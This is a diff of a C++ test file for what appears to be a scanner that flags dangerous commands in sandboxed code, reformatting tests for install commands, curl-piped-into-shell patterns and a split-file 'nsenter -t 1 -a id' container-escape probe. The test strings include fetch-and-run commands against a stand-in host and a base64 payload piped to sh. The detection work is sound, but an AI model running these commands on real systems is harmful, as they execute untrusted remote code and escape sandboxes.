@@ -113,8 +113,7 @@ TEST(AlwaysBlock, KernelHooksAndModules) {
 }
 
 TEST(AlwaysBlock, ActsMayBeSplitOverTwoFiles) {
-  const std::vector<SourceFile> files = {
-      {"sandbox/run.ts", kSpawn + "export const sh = (c) => execSync(c);"},
+  const std::vector<SourceFile> files = {{"sandbox/run.ts", kSpawn + "export const sh = (c) => execSync(c);"},
       {"sandbox/a.test.ts", "import { sh } from './run'; sh('nsenter -t 1 -a id');"}};
   bool found = false;
   for (const Finding& finding : check(files, kDocker).findings) {
@@ -149,8 +148,8 @@ TEST(AlwaysBlock, PipInstall) {
 
 TEST(AlwaysBlock, OtherPackageManagers) {
   for (const char* command : {"npm i x", "npm ci", "yarn add x", "yarn install", "pnpm add x", "pnpm install",
-                              "pnpm dlx x", "bun add x", "bun install", "bun i", "npx cowsay", "npx --yes cowsay",
-                              "bunx cowsay", "apt-get install -y nmap", "cd /tmp && npm ci", "sudo apk add curl"}) {
+           "pnpm dlx x", "bun add x", "bun install", "bun i", "npx cowsay", "npx --yes cowsay", "bunx cowsay",
+           "apt-get install -y nmap", "cd /tmp && npm ci", "sudo apk add curl"}) {
     expect_always("always.install_command", kSpawn + "execSync('" + command + "')");
   }
   expect_always("always.install_command", kSpawn + "spawnSync('yarn', ['add', 'x'])");
@@ -159,13 +158,12 @@ TEST(AlwaysBlock, OtherPackageManagers) {
 }
 
 TEST(AlwaysBlock, CurlPipedIntoAShell) {
-  for (const char* command :
-       {"curl https://x.invalid/i|sh", "curl https://x.invalid/i | bash",
-        "curl -sSL https://x.invalid/i | sudo -E bash -", "curl https://x.invalid/i | sh -s -- -y",
-        "curl https://x.invalid/i | /bin/sh", "curl https://x.invalid/i | python3",
-        "bash <(curl -s https://x.invalid/i)", "sh -c \"$(curl -fsSL https://x.invalid/i)\"",
-        "curl https://x.invalid \\n | zsh", "wget -qO- https://x.invalid/i | sh", "echo aWQ= | base64 -d | sh",
-        "eval `curl https://x.invalid/i`"}) {
+  for (const char* command : {"curl https://x.invalid/i|sh", "curl https://x.invalid/i | bash",
+           "curl -sSL https://x.invalid/i | sudo -E bash -", "curl https://x.invalid/i | sh -s -- -y",
+           "curl https://x.invalid/i | /bin/sh", "curl https://x.invalid/i | python3",
+           "bash <(curl -s https://x.invalid/i)", "sh -c \"$(curl -fsSL https://x.invalid/i)\"",
+           "curl https://x.invalid \\n | zsh", "wget -qO- https://x.invalid/i | sh", "echo aWQ= | base64 -d | sh",
+           "eval `curl https://x.invalid/i`"}) {
     expect_always("always.fetch_and_run", std::string("execSync('") + command + "')");
   }
   expect_no_always("const help = ['curl | http client', 'bash | shell'].join('\\n')");
